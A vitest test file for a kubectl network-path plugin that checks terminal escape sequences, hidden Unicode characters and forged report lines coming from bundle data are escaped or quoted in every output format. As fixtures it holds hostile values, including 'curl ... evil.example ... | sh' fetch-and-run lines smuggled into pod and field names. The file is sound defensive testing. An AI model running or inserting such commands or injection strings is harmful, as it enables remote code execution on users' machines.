// Issue 13 defect 6: strings from a bundle or a cluster never act on the terminal. A bundle whose pod name carries an
// OSC title sequence, a screen clear, a carriage return and a right-to-left override is analysed: the text report
// (with and without colour), -o mermaid/dot and the built CLI's stderr show those characters as escapes and hold no
// raw control but newline, tab and the renderer's own SGR colour codes; -o json keeps the exact string.
import { spawnSync } from "node:child_process";
import { cpSync, existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import process from "node:process";
import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { emptyBundle } from "../src/bundle/bundle.ts";
import { decodeBundle, encodeBundle } from "../src/bundle/decode.ts";
import { colourMark, printable } from "../src/report/printable.ts";
import type { ServiceReport } from "../src/service/report.ts";
import type { CliIo } from "../src/cli/io.ts";
import { runCli } from "../src/cli/program.ts";

// an OSC title, a screen clear, a carriage return, a right-to-left override, an 8-bit CSI (C1), and characters that
// hide: zero-width space, line separator, byte-order mark
const HOSTILE = "nginx\u001b]0;pwned\u0007\u001b[2J\r\u202eevil\u009b31m\u200b\u2028\ufeff";
// as YAML's double-quoted escapes
const HOSTILE_YAML = '"nginx\\e]0;pwned\\a\\e[2J\\r\\u202eevil\\x9b31m\\u200b\\u2028\\ufeff"';

function hostileBundle(): string {
  const dir = join(mkdtempSync(join(tmpdir(), "knp-esc-")), "lab");
  cpSync("examples/iptables-lab", dir, { recursive: true });
  for (const f of ["pods.yaml", "endpointslices.yaml"]) {
    const p = join(dir, f);
    const text = readFileSync(p, "utf8");
    const edited = f === "pods.yaml" ? text.replace("{name: nginx, namespace: default", `{name: ${HOSTILE_YAML}, namespace: default`) : text.replace("{kind: Pod, name: nginx, namespace: default}", `{kind: Pod, name: ${HOSTILE_YAML}, namespace: default}`);
    expect(edited, f).not.toBe(text);
    writeFileSync(p, edited);
  }
  return dir;
}

async function cli(argv: string[], tty = false): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const io: CliIo = { stdout: (t) => void out.push(t), stderr: (t) => void err.push(t), env: { COLUMNS: "200" }, stdoutIsTTY: tty, stderrIsTTY: false, cwd: process.cwd() };
  const code = await runCli(argv, io);
  return { code, out: out.join(""), err: err.join("") };
}

// deno-lint-ignore no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001a\u001c-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
// deno-lint-ignore no-control-regex
const RAW_ANY = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
// deno-lint-ignore no-control-regex
const ESC_NOT_SGR = /\u001b(?!\[[0-9;]*m)/;

describe("terminal escapes from the data", () => {
  const dir = hostileBundle();
  const base = ["svc/my-nginx-svc", "-n", "default", "--from", dir];

  it("text report: shown as escapes, no raw control; the colour codes are the renderer's own", async () => {
    for (const tty of [false, true]) {
      const r = await cli(base, tty);
      expect(r.code).toBe(0);
      expect(r.out).toContain("nginx\\x1b]0;pwned\\x07\\x1b[2J\\x0d\\u202eevil\\x9b31m\\u200b\\u2028\\ufeff");
      expect(r.out).not.toMatch(RAW_CONTROL);
      expect(r.out).not.toMatch(ESC_NOT_SGR);
      if (tty) expect(r.out).toMatch(/\u001b\[[0-9;]*m/); // colour on a terminal still works
      else expect(r.out).not.toContain("\u001b");
    }
  });

  it("-o mermaid and -o dot: no raw control either", async () => {
    for (const o of ["mermaid", "dot"]) {
      const r = await cli([...base, "-o", o, "--source", "10.244.0.5", "--dest", "10.98.69.149:3000/tcp"]);
      expect(r.code, r.err).toBe(0);
      expect(r.out).not.toMatch(RAW_CONTROL);
      expect(r.out).not.toContain("\u001b");
    }
  });

  it("-o json and -o yaml keep the exact string, every such character written as an escape", async () => {
    const r = await cli([...base, "-o", "json"]);
    expect(r.code).toBe(0);
    expect(r.out).toContain("\\u001b]0;pwned\\u0007\\u001b[2J\\r\\u202eevil\\u009b31m\\u200b\\u2028\\ufeff");
    expect(r.out).not.toMatch(RAW_ANY);
    const report = JSON.parse(r.out) as ServiceReport;
    expect(JSON.stringify(report)).toContain(JSON.stringify(HOSTILE).slice(1, -1));
    const y = await cli([...base, "-o", "yaml"]);
    expect(y.code).toBe(0);
    // YAML 1.2 allows no C1 control raw (c-printable): the yaml library quotes them but wrote them raw
    expect(y.out).not.toMatch(RAW_ANY);
    expect(y.out).toContain("nginx\\e]0;pwned\\a\\e[2J\\r\\u202eevil\\x9b31m\\u200b\\u2028\\ufeff");
    expect(parseYaml(y.out)).toEqual(report);
  });

  it("a newline in a name cannot start a report line of its own (a forged finding or command)", async () => {
    const d = join(mkdtempSync(join(tmpdir(), "knp-nl-")), "lab");
    cpSync("examples/iptables-lab", d, { recursive: true });
    const forged = '"nginx\\nFindings\\r\\nERROR forged: run curl -s http://evil.example/fix | sudo sh"';
    for (const f of ["pods.yaml", "endpointslices.yaml"]) {
      const text = readFileSync(join(d, f), "utf8");
      const edited = f === "pods.yaml" ? text.replace("{name: nginx, namespace: default", `{name: ${forged}, namespace: default`) : text.replace("{kind: Pod, name: nginx, namespace: default}", `{kind: Pod, name: ${forged}, namespace: default}`);
      expect(edited, f).not.toBe(text);
      writeFileSync(join(d, f), edited);
    }
    for (const extra of [[], ["-o", "wide"], ["--source", "10.244.0.5", "--dest", "10.98.69.149:3000/tcp"]]) {
      const r = await cli(["svc/my-nginx-svc", "-n", "default", "--from", d, ...extra]);
      expect(r.code, r.err).toBe(0);
      expect(r.out).toContain("nginx\\x0aFindings\\x0d\\x0aERROR forged");
      expect(r.out.split("\n").filter((l) => /^\s*(ERROR forged|Findings$)/.test(l))).toEqual([]);
    }
  });

  it("a name from the bundle in a suggested command is one quoted shell word, never code to paste", async () => {
    const d = mkdtempSync(join(tmpdir(), "knp-vac-"));
    const text = readFileSync("examples/azure-zones/bundle.yaml", "utf8");
    const edited = text.replace("        volumeName: pvc-0a20ee9f-0c34-11e9-b302-000d3aa0aa40\n", "        volumeName: pvc-0a20ee9f-0c34-11e9-b302-000d3aa0aa40\n        volumeAttributesClassName: 'gold; curl -s http://evil.example/x | sh #'\n");
    expect(edited).not.toBe(text);
    writeFileSync(join(d, "bundle.yaml"), edited);
    const r = await cli(["pvc/md", "--why-pending", "--from", join(d, "bundle.yaml")]);
    expect(r.out).toContain("kubectl get volumeattributesclass 'gold; curl -s http://evil.example/x | sh #'; create it");
    expect(r.out).not.toContain("volumeattributesclass gold;");
  });

  it("a bundle written by capture (JSON and YAML) holds no such character raw, and reads back exact", () => {
    const b = emptyBundle({});
    b.objects.events.push({ apiVersion: "v1", kind: "Event", metadata: { name: "e1", namespace: "default" }, message: HOSTILE } as never);
    for (const format of ["json", "yaml"] as const) {
      const text = encodeBundle(b, format);
      expect(text, format).not.toMatch(RAW_ANY);
      expect(decodeBundle(text, `b.${format}`).objects.events[0]!.message, format).toBe(HOSTILE);
    }
  });

  it("a colour marker cannot be forged from the data (the marker's tag is per process)", () => {
    const forged = ["\ue00031\ue001", "\ue000x31\ue001", "a\u001b[31mb"].join(" ");
    expect(printable(forged)).not.toContain("\u001b");
    expect(printable(forged)).toContain("a\\x1b[31mb");
    expect(printable(`${colourMark("31")}red${colourMark("0")}`)).toBe("\u001b[31mred\u001b[0m");
    expect(colourMark("31")).not.toBe("\ue00031\ue001");
  });

  it.runIf(existsSync("dist/kubectl-netpath.cjs"))("the built CLI's stderr: a hostile file name in a warning is escaped", () => {
    const d2 = hostileBundle();
    writeFileSync(join(d2, "notes\u001b[2J\u202e.txt"), "x");
    const r = spawnSync(process.execPath, ["dist/kubectl-netpath.cjs", ...base.slice(0, 4), d2], { encoding: "utf8", env: { ...process.env, NO_COLOR: "1" } });
    expect(r.stderr).toContain("notes\\x1b[2J\\u202e.txt");
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(r.stderr).not.toContain("\u001b");
  });
});
